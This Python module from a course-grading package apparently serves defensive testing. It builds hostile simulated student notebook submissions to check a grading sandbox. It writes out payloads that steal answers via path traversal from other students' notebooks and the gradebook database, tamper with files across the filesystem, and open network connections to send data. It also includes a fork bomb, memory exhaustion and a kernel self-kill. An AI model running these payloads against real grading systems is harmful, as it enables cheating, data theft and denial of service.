"""Dishonest and hostile submissions, for testing the sandbox on a simulated class.

Built like :mod:`mhkurs.assess.simulate`'s learners, from the released notebook:
each attacker puts code in its answer cells. Readers try to take the answers
from files a submission must not see and answer nothing themselves, so they
should earn 0. The others answer every other question honestly (what
``simulate``'s ``partial`` learner does) and then attack; they should earn that
and nothing more, and leave everything outside their own folder unchanged.
"""

from __future__ import annotations

import json
import textwrap

import nbformat

from ..assess.simulate import Submission, _half_right, _set_answer, questions_in
from ..bank import Bank

ATTACKS = ("copies-source", "reads-other", "reads-gradebook", "writes-outside", "network", "forkbomb", "memory",
           "kills-kernel")

# Takes answers like `svar_3 = "B"` from whatever files it can read (notebooks, the gradebook).
_STEAL = '''\
def _hent(kilder):
    import re, sqlite3
    funn = {}
    for sti in kilder:
        try:
            if sti.endswith(".db"):
                con = sqlite3.connect("file:" + sti + "?mode=ro", uri=True)
                tekst = "\\n".join(r[0] or "" for r in con.execute("select source from source_cell"))
            else:
                tekst = open(sti, encoding="utf-8").read()
        except Exception as exc:
            print("ingen tilgang:", sti, type(exc).__name__)
            continue
        for var, verdi in re.findall(r'(svar_\\d+) = \\\\?"([A-Z]+)\\\\?"', tekst):
            funn.setdefault(var, verdi)
    return funn
'''


def _steal_paths(kind: str, assignment: str, victim: str) -> list[str]:
    if kind == "copies-source":
        return [f"../../../source/{assignment}/{assignment}.ipynb"]
    if kind == "reads-other":
        return [f"../../{victim}/{assignment}/{assignment}.ipynb",
                f"../../../submitted/{victim}/{assignment}/{assignment}.ipynb"]
    return ["../../../gradebook.db"]


def _attack_code(kind: str, assignment: str, victim: str, port: int) -> str:
    if kind == "writes-outside":
        targets = [f"../../../source/{assignment}/{assignment}.ipynb", "../../../gradebook.db",
                   "../../../nbgrader_config.py", f"../../{victim}/{assignment}/angrep.txt",
                   "../../../angrep.txt", "/tmp/mhkurs-angrep.txt"]
        # Then a file in every folder it can write to (its private /tmp, home and socket folder), one it
        # cannot read back, to see that the grading leaves nothing of it behind.
        return textwrap.dedent(f"""\
            for _sti in {targets!r}:
                try:
                    with open(_sti, "a", encoding="utf-8") as _f:
                        _f.write("angrep")
                    print("skrev", _sti)
                except Exception as _exc:
                    print("ingen tilgang:", _sti, type(_exc).__name__)
            import os as _os
            for _rot, _mapper, _filer in _os.walk("/"):
                if _rot.startswith(("/proc", "/sys", "/dev")):
                    _mapper[:] = []
                    continue
                try:
                    _ny = _os.path.join(_rot, "angrep-mappe")
                    _os.makedirs(_ny, exist_ok=True)
                    open(_os.path.join(_ny, "angrep.txt"), "w").write("angrep")
                    _os.chmod(_ny, 0)
                    print("skrev i", _rot)
                except Exception:
                    pass
            """)
    if kind == "network":
        return textwrap.dedent(f"""\
            import socket
            for _adr in [("127.0.0.1", {port}), ("10.0.2.2", {port}), ("pypi.org", 443)]:
                try:
                    socket.create_connection(_adr, timeout=3).sendall(b"stjalet")
                    print("sendte til", _adr)
                except Exception as _exc:
                    print("ingen forbindelse:", _adr, type(_exc).__name__)
            """)
    if kind == "forkbomb":
        return "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    if kind == "memory":
        return "_hauger = []\nwhile True:\n    _hauger.append(bytes(64 * 1024 * 1024))\n"
    if kind == "kills-kernel":  # the kernel dies in the middle of the notebook
        return "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
    raise ValueError(kind)


def attack(bank: Bank, release_text: str, student: str, kind: str, assignment: str,
           victim: str, port: int = 9) -> Submission:
    """One attacker's submission. ``victim``: a student whose work a reader tries to copy;
    ``port``: a loopback port the network attacker tries to reach."""
    if kind not in ATTACKS:
        raise ValueError(f"unknown attack {kind!r} (known: {', '.join(ATTACKS)})")
    nb = nbformat.reads(release_text, as_version=4)
    qs = questions_in(bank, nb)
    if kind in ("copies-source", "reads-other", "reads-gradebook"):
        first = nb.cells[qs[0].answer_cell]
        paths = _steal_paths(kind, assignment, victim)
        first.source = _STEAL + f"\n_stjalet = _hent({json.dumps(paths)})\n" + first.source
        for q in qs:
            _set_answer(nb, q, f'_stjalet.get("{q.var}", "")')
        return Submission(student, kind, nbformat.writes(nb), 0.0)
    expected = _half_right(nb, qs)
    cell = nb.cells[qs[1].answer_cell]  # a question this learner answers wrong anyway
    cell.source = _attack_code(kind, assignment, victim, port) + cell.source
    return Submission(student, kind, nbformat.writes(nb), expected)
